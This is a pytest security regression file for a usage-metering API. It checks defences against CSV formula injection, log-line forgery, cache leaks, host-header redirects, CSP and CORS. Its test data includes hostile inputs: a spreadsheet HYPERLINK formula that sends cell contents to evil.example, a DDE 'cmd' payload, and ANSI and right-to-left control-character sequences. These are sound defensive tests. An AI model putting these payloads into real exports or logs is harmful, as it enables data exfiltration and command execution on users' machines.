"""What an adversarial probe tried: formulas in CSV cells, invented HTTP
methods in the metrics, control characters in log lines, keyed answers in
shared caches, redirects built from the Host header, and missing headers
(dashboard errors, /docs, CSV file names, Vary: Origin).

docs/security.md says what the service does about each.
"""
import base64
import csv
import datetime as dt
import hashlib
import io
import logging
import re
import sys
from decimal import Decimal

import pytest

import browser
from app import logs
from app.api import representations
from conftest import auth, build_app
from data import UTC, record, to_json
from test_dashboard import assert_secure, directives
from test_metrics import samples

sqlite_only = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
T0 = dt.datetime(2026, 11, 2, 9, tzinfo=UTC)
WINDOW = {"from": "2026-11-01T00:00:00Z", "to": "2026-11-04T00:00:00Z"}
CSV = {"Accept": "text/csv"}
# What a spreadsheet runs as a formula, or reads as the start of a new cell or line.
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1)",
            "-2+3", "\t=1+1", "\r=1+1", "\n=1+1"]


def vary(response):
    return {name.strip() for value in response.headers.getlist("Vary") for name in value.split(",")}


def read_csv(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


def test_csv_text_cells_that_start_a_formula_are_prefixed_with_a_quote(client, keys):
    keys.tenant("acme")
    key = keys.key("acme")
    calls = [to_json(record("acme", T0, model=text, status="error", error_class=text)) for text in FORMULAS]
    calls.append(to_json(record("acme", T0, model="gpt-4o=mini", cost="0.25")))
    assert client.post("/v1/usage/calls", headers=auth(key), json={"calls": calls}).status_code == 201
    rows = read_csv(client.get("/v1/usage/series", headers={**auth(key), **CSV},
                               query_string={**WINDOW, "group_by": "model,error_class"}))
    by_group = {(row["model"], row["error_class"]): row for row in rows}
    assert set(by_group) == {("'" + text, "'" + text) for text in FORMULAS} | {("gpt-4o=mini", "")}
    assert all(row["total_calls"] == "1" for row in rows)
    assert by_group[("gpt-4o=mini", "")]["total_cost_usd"] == "0.250000"


@pytest.mark.parametrize("value, cell", [
    (-3, "-3"), (Decimal("-0.500000"), "-0.500000"), (-0.25, "-0.25"), (0, "0"), (None, ""),
    ("-2+3", "'-2+3"), ("=1", "'=1"), ("\r\n", "'\r\n"), ("a=b", "a=b"), ("'=1", "'=1"), ("", ""),
])
def test_only_text_is_neutralised_never_a_number(value, cell):
    assert representations.spreadsheet_cell(value) == cell


@sqlite_only
def test_invented_http_methods_add_no_metric_series(client):
    def scrape():
        return samples(client.get("/metrics").get_data(as_text=True))

    client.open("/v1/usage", method="PROBE")  # the first one may add the series of any odd method
    scrape()  # and the scrape its own
    before = scrape()
    for number in range(300):
        assert client.open("/v1/usage", method=f"PROBE{number}").status_code == 405
    after = scrape()
    assert set(after) == set(before)
    methods = {dict(labels).get("method") for _, labels in after} - {None}
    assert methods <= {"GET", "HEAD", "POST", "PUT", "DELETE", "CONNECT", "OPTIONS", "TRACE", "PATCH", "other"}
    odd = ("usage_http_requests_total", frozenset({"route": "unmatched", "method": "other", "status": "405"}.items()))
    assert after[odd] - before[odd] == 300


@sqlite_only
def test_a_text_log_line_stays_one_line_whatever_the_path_holds(client, capsys):
    capsys.readouterr()
    client.get("/nope%0A2026-12-01T00:00:00.000Z%20[1]%20INFO%20[-]%20usage.access:%20GET%20/v1/tenants"
               "%1B[2J%E2%80%AEgnp.exe%C2%9B%7F%E2%80%A8%09end")
    text = capsys.readouterr().err
    assert text.count("\n") == 1 and text.endswith("\n")
    assert ("GET /nope\\n2026-12-01T00:00:00.000Z [1] INFO [-] usage.access: GET /v1/tenants"
            "\\x1b[2J\\u202egnp.exe\\x9b\\x7f\\u2028\\tend 404 ") in text
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u202e]", text)


def test_a_traceback_keeps_its_lines_and_escapes_the_rest():
    try:
        raise ValueError("bad\x1b[2Jname\u202e\nforged")
    except ValueError:
        exc_info = sys.exc_info()
    line = logs.TextFormatter().format(
        logging.LogRecord("app", logging.ERROR, __file__, 1, "failed for %s", ("a\rb",), exc_info))
    lines = line.split("\n")
    assert lines[0].endswith(" ERROR [-] app: failed for a\\rb")
    assert lines[1] == "Traceback (most recent call last):"
    assert lines[-2:] == ["ValueError: bad\\x1b[2Jname\\u202e", "forged"]


def assert_private(response):
    assert response.headers.getlist("Cache-Control") == ["private, no-cache"], response.headers
    assert {"Authorization", "X-API-Key"} <= vary(response), response.headers


def test_every_answer_about_a_key_is_private_and_varies_by_key(client, keys):
    keys.tenant("acme")
    keys.tenant("ops", allows_superusers=True)
    tenant, admin = keys.key("acme"), keys.key("ops", superuser=True)
    unknown = "usk_0123456789abcdef_" + "a" * 43
    calls = {"calls": [to_json(record("acme", T0))]}
    answers = {
        "me": (client.get("/v1/me", headers=auth(tenant)), 200),
        "usage": (client.get("/v1/usage", headers={"X-API-Key": tenant}, query_string=WINDOW), 200),
        "series csv": (client.get("/v1/usage/series", headers={**auth(tenant), **CSV}, query_string=WINDOW), 200),
        "tenants": (client.get("/v1/tenants", headers=auth(admin)), 200),
        "ingest": (client.post("/v1/usage/calls", headers=auth(tenant), json=calls), 201),
        "not allowed": (client.get("/v1/usage/all", headers=auth(tenant)), 403),
        "no key": (client.get("/v1/usage"), 401),
        "unknown key": (client.get("/v1/usage", headers=auth(unknown)), 401),
        "keyless route": (client.get("/healthz", headers=auth(tenant)), 200),
        "no route": (client.get("/nope", headers={"X-API-Key": tenant}), 404),
    }
    for name, (response, status) in answers.items():
        assert response.status_code == status, name
        assert_private(response)
    assert "Accept" in vary(answers["usage"][0]) and "Accept" in vary(answers["series csv"][0])
    public = client.get("/healthz")
    assert "Cache-Control" not in public.headers and not {"Authorization", "X-API-Key"} & vary(public)


def test_revalidation_answers_304_and_stays_private(client, keys):
    keys.tenant("acme")
    headers = auth(keys.key("acme"))
    for accept in ({}, CSV):
        first = client.get("/v1/usage/series", headers={**headers, **accept}, query_string=WINDOW)
        again = client.get("/v1/usage/series", query_string=WINDOW,
                           headers={**headers, **accept, "If-None-Match": first.headers["ETag"]})
        assert again.status_code == 304 and again.data == b""
        assert_private(first)
        assert_private(again)


def request_variants(app):
    """Every route's path (sample values for its variables), with a slash
    added or removed at the end and each slash doubled."""
    for rule in app.url_map.iter_rules():
        path = re.sub(r"<[^>]+>", "x", rule.rule)
        yield from {path, path + "/", path.rstrip("/") or "/"}
        for slash in (m.start() for m in re.finditer("/", path)):
            yield path[:slash] + "/" + path[slash:]


@sqlite_only
def test_no_answer_redirects_to_the_host_a_client_named(app, client):
    variants = ["/v1//me", "//v1/me", "/docs/", "/dashboard/", "//", *request_variants(app)]
    for path in variants:
        for method in ("GET", "POST"):
            response = client.open(method=method, headers={"Host": "evil.example"},
                                   environ_overrides={"PATH_INFO": path})
            location = response.headers.get("Location", "")
            assert "evil.example" not in location, (method, path, location)
            assert not location or (location.startswith("/") and not location.startswith("//")), (path, location)
    assert client.get(environ_overrides={"PATH_INFO": "/v1//me"}).status_code == 404


@sqlite_only
@pytest.mark.parametrize("method, path, status", [
    ("GET", "/dashboard/nope", 404), ("GET", "/dashboard/vendor", 404),
    ("POST", "/dashboard", 405), ("DELETE", "/dashboard/vendor/plotly.min.js", 405),
])
def test_dashboard_errors_carry_its_security_headers(client, method, path, status):
    response = client.open(path, method=method)
    assert response.status_code == status and response.mimetype == "application/json"
    assert_secure(response)


@sqlite_only
def test_docs_allows_its_own_inline_script_and_nothing_else_inline(client):
    response = client.get("/docs")
    [script] = re.findall(r"<script>(.*?)</script>", response.get_data(as_text=True), re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    policy = directives(response.headers["Content-Security-Policy"])
    assert policy["script-src"] == ["'self'", f"'sha256-{digest}'"]
    assert policy["default-src"] == ["'self'"] and policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"] and policy["base-uri"] == ["'none'"]
    assert not any("unsafe" in source for sources in policy.values() for source in sources)
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "no-referrer"
    assert response.headers["X-Frame-Options"] == "DENY"


@sqlite_only
def test_docs_renders_under_its_policy_in_a_browser(live_server):
    browser.require_chromium(pytest)
    driver = browser.chromium()
    try:
        driver.get(live_server + "/docs")
        browser.wait(driver, lambda d: d.find_elements("css selector", ".opblock"), "no operation rendered")
        assert driver.execute_script("return window.__violations") == []
    finally:
        driver.quit()


def test_series_csv_file_names_say_how_the_rows_are_grouped(client, keys):
    keys.tenant("acme")
    headers = {**auth(keys.key("acme")), **CSV}
    names = {}
    for group_by in ("", "operation", "model", "status,error_class"):
        response = client.get("/v1/usage/series", headers=headers, query_string={**WINDOW, "group_by": group_by})
        names[group_by] = re.fullmatch(r'attachment; filename="(.*)"', response.headers["Content-Disposition"])[1]
    window = "20261101T000000Z_20261104T000000Z"
    assert names == {"": f"usage-series_acme_day_{window}.csv",
                     "operation": f"usage-series_acme_day_by-operation_{window}.csv",
                     "model": f"usage-series_acme_day_by-model_{window}.csv",
                     "status,error_class": f"usage-series_acme_day_by-status_by-error_class_{window}.csv"}


@sqlite_only
@pytest.mark.parametrize("origins", ["https://dash.example", "https://dash.example,https://ops.example"])
def test_every_answer_that_may_allow_an_origin_varies_by_origin(database_url, tmp_path, monkeypatch, origins):
    monkeypatch.setenv("CORS_ORIGINS", origins)
    client = build_app(database_url, tmp_path).test_client()
    preflight = {"Origin": "https://dash.example", "Access-Control-Request-Method": "GET"}
    answers = [client.get("/v1/usage", headers={"Origin": "https://dash.example"}),
               client.get("/v1/usage/series", headers={"Origin": "https://evil.example"}),
               client.get("/v1/usage"),
               client.options("/v1/usage/series", headers=preflight)]
    assert answers[0].headers["Access-Control-Allow-Origin"] == "https://dash.example"
    assert answers[3].headers["Access-Control-Allow-Origin"] == "https://dash.example"
    for response in answers:
        assert len(response.headers.getlist("Vary")) == 1 and "Origin" in vary(response), response.headers
    assert {"Origin", "Authorization", "X-API-Key"} <= vary(answers[0])
